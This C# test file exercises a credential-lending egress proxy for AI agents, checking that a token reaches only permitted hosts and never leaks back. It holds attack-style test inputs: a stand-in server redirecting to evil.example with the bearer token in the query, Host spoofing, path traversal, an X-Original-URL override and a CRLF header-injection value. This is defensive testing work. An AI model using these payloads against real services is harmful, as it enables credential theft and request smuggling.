using System.IO.Compression;
using System.Net;
using System.Text;
using Bartizan.Core.Enforcement;
using Bartizan.Core.Entries;
using Bartizan.Core.Manifests;
using Bartizan.Gateway.Tests.Egress.Intercepted;
using Microsoft.AspNetCore.Http;
using Microsoft.AspNetCore.Http.Features;

namespace Bartizan.Gateway.Tests.Egress.Injection.Attacks;

/// <summary>A real agent's client, a real proxy, a real server: who gets the credential, and what comes back.</summary>
public sealed class InjectedTests
{
    private const string Value = "ghp_7hQ2mK9vX4pL1sD8fG3jH6kW5zC0bN2rT9yU";

    private static readonly string[] Rule =
    [
        "allow: http * https://api.example/repos/** with token",
        "allow: http * https://api.example/open/**",
        "allow: http * http://plain.example/**",
    ];

    private static readonly CredentialSource Token = new("token", CredentialOrigin.Vault, "a/b")
    {
        Variable = "TOKEN",
        Shape = PlaceholderShape.GitHub,
    };

    [Theory]
    [InlineData("1.1")]
    [InlineData("2.0")]
    public async Task A_granted_request_has_it_and_nobody_else(string version)
    {
        await using var house = await OpenAsync(Token);
        using var client = house.Client(Version.Parse(version));
        client.DefaultRequestHeaders.TryAddWithoutValidation(
            "Authorization",
            $"Bearer {house.House.Placeholders.Of(house.House.Session, "token")}"
        );

        (await client.GetStringAsync("https://api.example/repos/a").Soon()).ShouldBe("hello");

        house.Server!.Fields.Authorization.ToArray().ShouldBe([$"Bearer {Value}"]);
        house.House.Host.LentFor.ShouldBe(["https://api.example/"]);
        (await house.House.Host.OutcomeAsync(OutcomeKind.Done)).Credential.ShouldBe("key");
        string.Join('\n', house.House.Host.Entries.Select(e => e.ToString())).ShouldNotContain(Value);

        using var plain = house.Client(Version.Parse(version));
        await plain.GetStringAsync("https://api.example/open/a").Soon();

        house.Server.Fields.ShouldNotContainKey("Authorization");
        house.House.Host.LentFor.Count.ShouldBe(1);
    }

    [Fact]
    public async Task What_the_agent_sends_in_its_place_is_replaced_once_in_every_case()
    {
        await using var house = await OpenAsync(Token);

        await house.AskAsync(
            "GET /repos/a HTTP/1.1\r\nHost: api.example\r\nauthorization: Bearer mine\r\nAUTHORIZATION: Basic eDp5\r\n"
                + "Authorization: x\r\nConnection: close, Authorization\r\nRange: bytes=0-3\r\n"
                + "Request-Range: bytes=0-3\r\nContent-Range: bytes */9\r\nAccept-Encoding: gzip\r\n\r\n"
        );

        house.Server!.Fields.Authorization.ToArray().ShouldBe([$"Bearer {Value}"]);
        house.Server.Fields.ShouldNotContainKey("Range");
        house.Server.Fields.ShouldNotContainKey("Request-Range");
        house.Server.Fields.ShouldContainKey("Content-Range");
        house.Server.Fields.AcceptEncoding.ToString().ShouldBe("identity");
    }

    [Theory]
    [InlineData("GET /repos/a HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n")]
    [InlineData("GET /repos/a HTTP/1.1\r\nHost: api.example\r\nHost: evil.example\r\nConnection: close\r\n\r\n")]
    [InlineData("GET https://evil.example/repos/a HTTP/1.1\r\nHost: api.example\r\nConnection: close\r\n\r\n")]
    [InlineData("GET /repos/../open/a HTTP/1.1\r\nHost: api.example\r\nConnection: close\r\n\r\n")]
    [InlineData("GET /repos/%2e%2e/open/a HTTP/1.1\r\nHost: api.example\r\nConnection: close\r\n\r\n")]
    [InlineData("GET /other HTTP/1.1\r\nHost: api.example\r\nX-Original-URL: /repos/a\r\nConnection: close\r\n\r\n")]
    public async Task No_trick_of_host_or_path_has_it_lent(string request)
    {
        await using var house = await OpenAsync(Token);

        await house.AskAsync(request);

        house.House.Host.LentFor.ShouldBeEmpty();
        house.Server!.Fields.ShouldNotContainKey("Authorization");
    }

    [Fact]
    public async Task A_redirect_is_the_agents_to_follow_and_is_decided_anew()
    {
        await using var house = await OpenAsync(
            Token,
            context =>
            {
                var said = context.Request.Headers.Authorization.ToString();
                context.Response.Redirect($"https://evil.example/?t={Uri.EscapeDataString(said)}");
                return Task.CompletedTask;
            }
        );
        using var client = house.Client();

        using var answer = await client.GetAsync("https://api.example/repos/a").Soon();

        answer.StatusCode.ShouldBe(HttpStatusCode.Redirect);
        answer.Headers.Location!.ToString().ShouldNotContain("7hQ2mK9vX4pL1sD8");
        house.Server!.Asked.Count.ShouldBe(1);
        using var next = await client.GetAsync("https://api.example/open/b").Soon();
        house.Server.Fields.ShouldNotContainKey("Authorization");
    }

    [Theory]
    [InlineData("gzip")]
    [InlineData("deflate")]
    [InlineData("br")]
    [InlineData("")]
    public async Task An_echo_in_the_body_a_header_or_a_trailer_comes_back_without_it(string coding)
    {
        await using var house = await OpenAsync(Token, context => EchoAsync(context, coding));
        using var client = house.Client(HttpVersion.Version20);

        using var answer = await client.GetAsync("https://api.example/repos/a").Soon();

        var body = await answer.Content.ReadAsStringAsync();
        body.ShouldBe($"said: Bearer {new string('*', Value.Length)} end");
        answer.Headers.GetValues("X-Echo").Single().ShouldNotContain("7hQ2mK9v");
        answer.TrailingHeaders.GetValues("X-Trailed").Single().ShouldNotContain("7hQ2mK9v");
        answer.Content.Headers.ContentEncoding.ShouldBeEmpty();
    }

    [Fact]
    public async Task An_answer_that_can_not_be_looked_through_is_not_passed_on()
    {
        await using var house = await OpenAsync(
            Token,
            context =>
            {
                context.Response.Headers.ContentEncoding = "zstd";
                return context.Response.WriteAsync("packed");
            }
        );
        using var client = house.Client();

        using var answer = await client.GetAsync("https://api.example/repos/a").Soon();

        answer.StatusCode.ShouldBe(HttpStatusCode.BadGateway);
        (await answer.Content.ReadAsStringAsync()).ShouldContain("can't be looked through");
    }

    [Fact]
    public async Task A_key_of_the_query_is_not_told_by_an_error_page()
    {
        var key = Token with { Place = new CredentialPlace(CredentialSurface.Query, "key") };
        await using var house = await OpenAsync(
            key,
            context =>
            {
                context.Response.StatusCode = 404;
                var target = context.Features.GetRequiredFeature<IHttpRequestFeature>().RawTarget;
                return context.Response.WriteAsync($"<p>not found: {WebUtility.HtmlEncode(target)}</p>");
            }
        );
        using var client = house.Client();

        using var answer = await client.GetAsync("https://api.example/repos/a?x=1&KEY=mine").Soon();

        (await answer.Content.ReadAsStringAsync()).ShouldBe(
            $"<p>not found: /repos/a?x=1&amp;key={new string('*', Value.Length)}</p>"
        );
        house.Server!.Asked.Single().ShouldContain($"/repos/a?x=1&key={Value} ");
    }

    [Fact]
    public async Task A_body_of_json_has_it_at_its_pointer()
    {
        string? got = null;
        var key = Token with { Place = new CredentialPlace(CredentialSurface.Json, "/auth/token") };
        await using var house = await OpenAsync(
            key,
            async context =>
            {
                got = await new StreamReader(context.Request.Body).ReadToEndAsync();
                await context.Response.WriteAsync(got);
            }
        );
        using var client = house.Client();
        var own = house.House.Placeholders.Of(house.House.Session, "token");
        using var content = new StringContent(
            $$$"""{"auth":{"token":"{{{own}}}"},"n":1}""",
            Encoding.UTF8,
            "application/json"
        );

        using var answer = await client.PostAsync("https://api.example/repos/a", content).Soon();

        got.ShouldBe($$$"""{"auth":{"token":"{{{Value}}}"},"n":1}""");
        (await answer.Content.ReadAsStringAsync()).ShouldNotContain("7hQ2mK9v");
    }

    [Theory]
    [InlineData("https://api.example/open/a", "Authorization", "Bearer TOKEN")]
    [InlineData("https://api.example/repos/a", "X-Other", "TOKEN")]
    [InlineData("https://api.example/repos/a?q=TOKEN", "X-Other", "x")]
    [InlineData("https://api.example/repos/TOKEN", "X-Other", "x")]
    [InlineData("http://plain.example/a", "Authorization", "Bearer TOKEN")]
    [InlineData("http://plain.example/a?x=TOKEN", "X-Other", "x")]
    public async Task A_placeholder_elsewhere_is_refused_and_found(string address, string name, string value)
    {
        await using var house = await OpenAsync(Token);
        using var client = house.Client();
        var own = house.House.Placeholders.Of(house.House.Session, "token")!;
        using var request = new HttpRequestMessage(HttpMethod.Get, address.Replace("TOKEN", own));
        request.Headers.TryAddWithoutValidation(name, value.Replace("TOKEN", own));

        using var answer = await client.SendAsync(request).Soon();

        answer.StatusCode.ShouldBe(HttpStatusCode.Forbidden);
        (await answer.Content.ReadAsStringAsync()).ShouldContain("a placeholder stands where no rule puts");
        house.Server!.Asked.ShouldBeEmpty();
        house.House.Host.LentFor.ShouldBeEmpty();
        house.House.Host.Entries.Select(e => e.Kind).ShouldBe([EntryKind.Finding, EntryKind.Refusal]);
        house.House.Host.Entries[0].Detail.ShouldBe("placeholder-misplaced high 1");
    }

    [Fact]
    public async Task Another_sessions_placeholder_is_refused_in_the_right_place()
    {
        await using var house = await OpenAsync(Token);
        var (other, _) = house.House.Open(Rule);
        using var client = house.Client();
        client.DefaultRequestHeaders.TryAddWithoutValidation(
            "Authorization",
            $"Bearer {house.House.Placeholders.Of(other, "token")}"
        );

        using var answer = await client.GetAsync("https://api.example/repos/a").Soon();

        answer.StatusCode.ShouldBe(HttpStatusCode.Forbidden);
        (await answer.Content.ReadAsStringAsync()).ShouldContain("another session");
        house.Server!.Asked.ShouldBeEmpty();
    }

    [Theory]
    [InlineData("https://api.example/open/a")]
    [InlineData("http://plain.example/a")]
    public async Task A_placeholder_in_a_body_that_streams_never_arrives(string address)
    {
        var got = new MemoryStream();
        await using var canary = new Canary(
            async (canary, socket) =>
            {
                var buffer = new byte[64 * 1024];
                while (await canary.HearAsync(socket, buffer) > 0) { }
            }
        );
        await using var house = await OpenAsync(Token, context => context.Request.Body.CopyToAsync(got));
        house.House.Network.Name("plain.example", "93.184.216.35");
        house.House.Network.Behind(IPAddress.Parse("93.184.216.35"), canary.Address);
        using var client = house.Client();
        var own = Encoding.ASCII.GetBytes(house.House.Placeholders.Of(house.House.Session, "token")!);
        using var content = new StreamContent(new MemoryStream([.. new byte[200_000], .. own, .. new byte[10]]));

        try
        {
            using var answer = await client.PostAsync(address, content).Soon();
            answer.IsSuccessStatusCode.ShouldBeFalse();
        }
        catch (HttpRequestException)
        {
            // Cut.
        }

        await house.House.Host.EntryAsync(e => e.Kind == EntryKind.Finding);
        (await house.House.Host.OutcomeAsync(OutcomeKind.Cut)).Detail!.ShouldContain("placeholder");
        (canary.Heard + Encoding.Latin1.GetString(got.ToArray())).ShouldNotContain(
            Encoding.Latin1.GetString(own)[..20]
        );
    }

    [Fact]
    public async Task An_upload_ends_when_its_credential_is_taken_back()
    {
        var begun = new TaskCompletionSource();
        await using var house = await OpenAsync(
            Token,
            async context =>
            {
                await context.Request.Body.ReadExactlyAsync(new byte[1000]);
                begun.TrySetResult();
                await context.Request.Body.CopyToAsync(Stream.Null);
            }
        );
        await using var stream = await house.RawAsync();
        await stream.WriteAsync(
            Encoding.ASCII.GetBytes(
                $"POST /repos/a HTTP/1.1\r\nHost: api.example\r\nContent-Length: 100000\r\n\r\n{new string('a', 5000)}"
            )
        );
        await begun.Task.Soon();

        house.House.Host.TakenBack = true;
        await stream.WriteAsync(new byte[50_000]);

        (await house.House.Host.OutcomeAsync(OutcomeKind.Cut)).Detail.ShouldBe(
            "its credential was taken back while it was sent"
        );
    }

    [Theory]
    [InlineData("a\r\nX-Evil: 1")]
    [InlineData("a\0b")]
    [InlineData("")]
    public async Task A_value_that_no_request_can_carry_is_not_sent(string value)
    {
        await using var house = await OpenAsync(Token);
        house.House.Host.Value = value;
        using var client = house.Client();

        using var answer = await client.GetAsync("https://api.example/repos/a").Soon();

        answer.StatusCode.ShouldBe(HttpStatusCode.Forbidden);
        house.Server!.Asked.ShouldBeEmpty();
    }

    [Fact]
    public async Task What_can_not_be_lent_is_not_sent_and_the_log_says_why()
    {
        await using var house = await OpenAsync(Token);
        house.House.Host.Refused = "credential `token`: the vault is sealed";
        using var client = house.Client();

        using var answer = await client.GetAsync("https://api.example/repos/a").Soon();

        answer.StatusCode.ShouldBe(HttpStatusCode.Forbidden);
        house.Server!.Asked.ShouldBeEmpty();
        (await house.House.Host.OutcomeAsync(OutcomeKind.Cut)).Detail!.ShouldContain("the vault is sealed");
        (await answer.Content.ReadAsStringAsync()).ShouldBe(
            "bartizan refused it: the credential `token` can't be had; the log says why.\n"
        );
    }

    [Fact]
    public async Task A_websocket_gets_none()
    {
        await using var house = await OpenAsync(Token);

        var answer = await house.AskAsync(
            "GET /repos/a HTTP/1.1\r\nHost: api.example\r\nConnection: Upgrade, close\r\nUpgrade: websocket\r\n"
                + "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
        );

        answer.ShouldStartWith("HTTP/1.1 403");
        house.Server!.Asked.ShouldBeEmpty();
    }

    private static async Task<InterceptedHouse> OpenAsync(CredentialSource source, RequestDelegate? answer = null)
    {
        var house = await InterceptedHouse.OpenAsync(
            Rule,
            outside =>
                SecureServer.StartAsync(outside.Sign(InterceptedHouse.Host), answer is null ? null : c => answer(c)),
            credentials: source
        );
        house.House.Host.Value = Value;
        house.House.Network.Name("plain.example", TestNetwork.Public.ToString());
        return house;
    }

    private static async Task EchoAsync(HttpContext context, string coding)
    {
        var said = context.Request.Headers.Authorization.ToString();
        context.Response.Headers["X-Echo"] = Convert.ToBase64String(Encoding.ASCII.GetBytes(said));
        context.Response.DeclareTrailer("X-Trailed");
        if (coding.Length > 0)
        {
            context.Response.Headers.ContentEncoding = coding;
        }

        var packed = new MemoryStream();
        await using (
            Stream packing = coding switch
            {
                "gzip" => new GZipStream(packed, CompressionLevel.Fastest, true),
                "deflate" => new ZLibStream(packed, CompressionLevel.Fastest, true),
                "br" => new BrotliStream(packed, CompressionLevel.Fastest, true),
                _ => packed,
            }
        )
        {
            await packing.WriteAsync(Encoding.ASCII.GetBytes($"said: {said} end"));
        }

        await context.Response.Body.WriteAsync(packed.ToArray());
        context.Response.AppendTrailer("X-Trailed", said);
    }
}
